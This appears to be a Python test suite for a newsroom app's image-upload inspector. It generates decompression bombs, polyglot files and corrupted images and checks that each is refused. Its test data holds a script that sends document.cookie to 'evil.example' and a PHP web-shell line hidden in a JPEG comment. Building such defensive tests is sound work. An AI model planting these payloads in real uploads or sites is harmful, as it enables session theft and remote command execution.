"""Uploads that want something else than to be looked at; every file is made here."""

import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from functools import lru_cache
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms

from shpalta.newsroom.media.containers import CutShortError, extent_of, kind_of
from shpalta.newsroom.media.inspection import LARGEST_FILE, inspect

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def picture(kind: str = "JPEG", size: tuple[int, int] = (320, 200), **options: object) -> bytes:
    """Draw a picture with something to see in it."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    image.paste((200, 30, 30), (size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2))
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


def png_chunk(name: bytes, data: bytes) -> bytes:
    """Write a chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, *chunks: bytes, rows: bytes = b"") -> bytes:
    """Write a PNG of a size that its data need not have."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + body


def with_chunk(name: bytes, data: bytes) -> bytes:
    """Give a good PNG with one more chunk after its head."""
    good = picture("PNG")
    return good[:33] + png_chunk(name, data) + good[33:]


def zip_file() -> bytes:
    """Make a ZIP with a page in it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("index.html", "<p>hello</p>")
    return file.getvalue()


def animation(frames: int, size: tuple[int, int]) -> bytes:
    """Make a GIF of equal frames, without holding them in memory."""
    one = picture("GIF", size)
    start = 13 + (3 * 2 ** ((one[10] & 7) + 1) if one[10] & 0x80 else 0)
    head, frame = one[:start], one[start:-1]
    return head + frame * frames + b"\x3b"


def comment(data: bytes) -> bytes:
    """Give a JPEG with a comment (COM)."""
    good = picture()
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(data) + 2) + data + good[2:]


def many_scans() -> bytes:
    """Give a progressive JPEG that repeats its last scan a thousand times."""
    good = picture(progressive=True)
    last = good.rindex(b"\xff\xda")
    return good[:last] + good[last:-2] * 1000 + good[-2:]


def broken_profile() -> bytes:
    """Give a picture whose colour profile is one by its head alone."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return picture(icc_profile=profile[:20] + b"\xff" * (len(profile) - 20))


@lru_cache
def photograph(**options: Any) -> bytes:
    """Give a JPEG with enough in it to be damaged in the middle."""
    image = Image.radial_gradient("L").resize((800, 600))
    coarse = Image.frombytes("L", (200, 150), random.Random(7).randbytes(30_000)).resize((800, 600))
    file = io.BytesIO()
    Image.merge("RGB", (image, coarse, image)).save(file, "JPEG", quality=85, **options)
    return file.getvalue()


def without_middle(**options: Any) -> bytes:
    """Give a JPEG whose middle third is gone; head, end and all markers are there."""
    good = photograph(**options)
    return good[: len(good) // 3] + good[-len(good) // 3 :]


def overwritten(hole: bytes, **options: Any) -> bytes:
    """Give a JPEG that has something else in its middle."""
    good = photograph(**options)
    middle = len(good) // 2
    return good[:middle] + hole + good[middle + len(hole) :]


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a decompression bomb": ("bomb.png", lambda: png_of(65_000, 65_000), "too_many_pixels"),
    "more than 100 megapixels": ("large.png", lambda: png_of(10_001, 10_000), "too_many_pixels"),
    "an animation of 200 times a megapixel": (
        "a.gif",
        lambda: animation(200, (1000, 1000)),
        "too_many_pixels",
    ),
    "an animation of 2,000 frames": ("a.gif", lambda: animation(2000, (8, 8)), "too_many_frames"),
    "a JPEG of a thousand scans": ("scans.jpg", many_scans, "too_many_frames"),
    "a text that unpacks into 100 megabytes": (
        "text.png",
        lambda: with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 100_000_000)),
        "broken",
    ),
    "a profile that unpacks into 100 megabytes": (
        "profile.png",
        lambda: with_chunk(b"iCCP", b"x\0\0" + zlib.compress(b"a" * 100_000_000)),
        "broken",
    ),
    "Exif of two megabytes": (
        "exif.png",
        lambda: with_chunk(b"eXIf", b"II*\0\x08\0\0\0\0\0" + b"\0" * 2_000_000),
        "giant_notes",
    ),
    "a broken colour profile": ("profile.jpg", broken_profile, "broken_profile"),
    "a page behind a JPEG": ("page.jpg", lambda: picture() + b"<html><p>hi", "holds_more"),
    "a script in a comment": ("comment.jpg", lambda: comment(SCRIPT), "holds_more"),
    "PHP in a comment": ("php.jpg", lambda: comment(b"<?php system($_GET[0]);"), "holds_more"),
    "a script in the text of a PNG": (
        "text.png",
        lambda: with_chunk(b"tEXt", b"Comment\0" + SCRIPT),
        "holds_more",
    ),
    "a ZIP behind a JPEG": ("zip.jpg", lambda: picture() + zip_file(), "holds_more"),
    "a ZIP behind a PNG": ("zip.png", lambda: picture("PNG") + zip_file(), "holds_more"),
    "a ZIP behind a WebP": ("zip.webp", lambda: picture("WEBP") + zip_file(), "holds_more"),
    "a PDF in a JPEG's comment": ("pdf.jpg", lambda: comment(b"%PDF-1.7\n1 0 obj"), "holds_more"),
    "a PDF behind a GIF": ("pdf.gif", lambda: picture("GIF") + b"%PDF-1.7", "holds_more"),
    "anything at all behind a PNG": (
        "tail.png",
        lambda: picture("PNG") + b"anything at all",
        "holds_more",
    ),
    "an SVG with a script": (
        "drawing.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "not_a_picture",
    ),
    "an SVG that calls itself a PNG": (
        "drawing.png",
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "not_a_picture",
    ),
    "a page that calls itself a JPEG": ("p.jpg", lambda: b"<!DOCTYPE html><p>", "not_a_picture"),
    "a program": ("setup.jpg", lambda: b"MZ\x90\0" + b"\0" * 500, "not_a_picture"),
    "a TIFF": ("scan.tiff", lambda: picture("TIFF"), "not_a_picture"),
    "a GIF that calls itself a JPEG": ("a.jpg", lambda: picture("GIF"), "wrong_extension"),
    "a picture that calls itself a page": ("a.html", lambda: picture("PNG"), "wrong_extension"),
    "a picture without an extension": ("a", lambda: picture("PNG"), "wrong_extension"),
    "half a JPEG": ("half.jpg", lambda: picture()[:-700], "cut_short"),
    "half a PNG": ("half.png", lambda: picture("PNG")[:-100], "cut_short"),
    "half a WebP": ("half.webp", lambda: picture("WEBP")[:-100], "cut_short"),
    "half an AVIF": ("half.avif", lambda: picture("AVIF")[:-100], "cut_short"),
    "half a GIF": ("half.gif", lambda: picture("GIF")[:-100], "cut_short"),
    "a JPEG without its middle": ("middle.jpg", without_middle, "damaged"),
    "a progressive JPEG without its middle": (
        "middle.jpg",
        lambda: without_middle(progressive=True),
        "damaged",
    ),
    "a JPEG with restart markers without its middle": (
        "middle.jpg",
        lambda: without_middle(restart_marker_rows=1),
        "damaged",
    ),
    "a JPEG that ends early": (
        "early.jpg",
        lambda: (good := photograph())[: len(good) // 2] + b"\xff\xd9",
        "damaged",
    ),
    "a JPEG filled up with zeros": (
        "zeros.jpg",
        lambda: (good := photograph())[: len(good) // 2] + bytes(len(good) // 2) + b"\xff\xd9",
        "damaged",
    ),
    "a JPEG with a hole of a disk's block": (
        "hole.jpg",
        lambda: overwritten(bytes(4096)),
        "damaged",
    ),
    "a JPEG with a piece of something else": (
        "piece.jpg",
        lambda: overwritten(zlib.compress(random.Random(1).randbytes(4096))),
        "damaged",
    ),
    "a PNG with a bit changed": (
        "bit.png",
        lambda: (good := picture("PNG"))[:200] + bytes([good[200] ^ 1]) + good[201:],
        "broken",
    ),
    "a PNG whose rows are missing": ("rows.png", lambda: png_of(500, 500), "broken"),
    "nothing": ("nothing.jpg", lambda: b"", "not_a_picture"),
    "too much": ("much.jpg", lambda: picture() + b"\0" * LARGEST_FILE, "too_large"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_is_no_picture_alone_is_refused_by_name_with_what_to_do(case: str) -> None:
    name, make, code = HOSTILE[case]
    data = make()
    begun = time.process_time()
    with pytest.raises(ValidationError) as refused:
        inspect(name, data)
    assert refused.value.code == code
    message = refused.value.messages[0]
    assert name in message
    assert message.endswith(".")
    # However it was built, it costs no more than a large photograph.
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        ("JPEG", "ФОТО 1.JPG"),
        ("PNG", "a.png"),
        ("GIF", "a.gif"),
        ("WEBP", "a.webp"),
        ("AVIF", "a.avif"),
        ("HEIF", "IMG_0001.HEIC"),
    ],
)
def test_pictures_of_each_kind_are_taken(kind: str, name: str) -> None:
    found = inspect(name, picture(kind))
    assert (found.width, found.height) == (320, 200)


def test_a_camera_s_picture_of_fifty_megapixels_is_taken() -> None:
    data = picture(size=(8192, 6144), quality=90)
    assert inspect("DSC_0001.JPG", data).width == 8192


@pytest.mark.parametrize(
    "tail",
    [
        b"\0" * 4096,
        b"\xff" * 64,
        picture(),
        b"\0\0\0\x18ftypmp42" + b"\1" * 500,
        b"\x01\x02 Image_UTC_Data SEFH" + b"\0" * 20 + b"SEFT",
        b"\0" * 10 + picture() + picture(),
    ],
)
def test_what_cameras_put_behind_a_picture_does_not_hinder(tail: bytes) -> None:
    assert inspect("phone.jpg", picture() + tail).kind == "jpeg"


def test_a_picture_that_lies_on_its_side_is_measured_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    found = inspect("tall.jpg", picture(exif=exif.tobytes()))
    assert (found.width, found.height) == (200, 320)


@pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
@pytest.mark.parametrize("subsampling", [0, 1, 2])
@pytest.mark.parametrize("restart", [{}, {"restart_marker_rows": 1}, {"restart_marker_blocks": 3}])
def test_no_kind_of_whole_jpeg_is_called_damaged(
    mode: str, subsampling: int, restart: dict[str, int]
) -> None:
    for size in ((1, 1), (17, 33), (803, 601)):
        for is_tuned in (False, True):
            image = Image.effect_noise(size, 50).convert("RGB").convert(mode)
            options: dict[str, Any] = {"progressive": is_tuned, "optimize": is_tuned, **restart}
            if mode != "L":
                options["subsampling"] = subsampling
            file = io.BytesIO()
            image.save(file, "JPEG", **options)
            assert inspect("a.jpg", file.getvalue()).width == size[0]


def test_a_plain_sky_is_no_hole() -> None:
    for is_tuned in (False, True):
        file = io.BytesIO()
        Image.new("RGB", (4000, 3000), "white").save(file, "JPEG", optimize=is_tuned)
        assert inspect("sky.jpg", file.getvalue()).width == 4000


@pytest.mark.parametrize("options", [{}, {"restart_marker_rows": 1}])
def test_a_hole_of_zeros_is_noticed_wherever_it_is(options: dict[str, int]) -> None:
    good = photograph(**options)
    start = good.index(b"\xff\xda") + 20
    for at in range(start, len(good) - 3_000, 6_000):
        with pytest.raises(ValidationError):
            inspect("a.jpg", good[:at] + bytes(2_048) + good[at + 2_048 :])


@given(st.data(), st.sampled_from([{}, {"restart_marker_rows": 1}]))
@settings(max_examples=60, deadline=None)
def test_whatever_piece_of_a_jpeg_is_lost_it_is_noticed(
    data: st.DataObject, options: dict[str, int]
) -> None:
    good = photograph(**options)
    start = good.index(b"\xff\xda") + 20
    # A few blocks of the picture: what is smaller may leave no trace in the codes.
    at = data.draw(st.integers(start, len(good) - 1_000))
    lost = data.draw(st.integers(400, len(good) - 2 - at))
    with pytest.raises(ValidationError):
        inspect("a.jpg", good[:at] + good[at + lost :])


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF", "WEBP", "AVIF"])
@settings(max_examples=40)
@given(data=st.data())
def test_a_picture_with_a_byte_changed_is_taken_or_refused_and_breaks_nothing(
    kind: str, data: st.DataObject
) -> None:
    good = bytearray(picture(kind, (64, 48)))
    for at in data.draw(st.lists(st.integers(0, len(good) - 1), min_size=1, max_size=8)):
        good[at] = data.draw(st.integers(0, 255))
    with suppress(ValidationError):
        inspect(f"a.{'jpg' if kind == 'JPEG' else kind.lower()}", bytes(good))


@given(st.binary(max_size=400), st.sampled_from(["jpeg", "png", "gif", "webp", "avif"]))
def test_the_end_of_anything_is_found_or_said_to_be_missing(data: bytes, kind: str) -> None:
    starts = {"jpeg": b"\xff\xd8\xff", "png": b"\x89PNG\r\n\x1a\n", "gif": b"GIF89a"}
    starts |= {"webp": b"RIFF\x20\0\0\0WEBP", "avif": b"\0\0\0\x18ftypavif"}
    whole = starts[kind] + data
    assert kind_of(whole) == kind
    with suppress(CutShortError):
        assert 0 < extent_of(kind, whole).end <= len(whole)
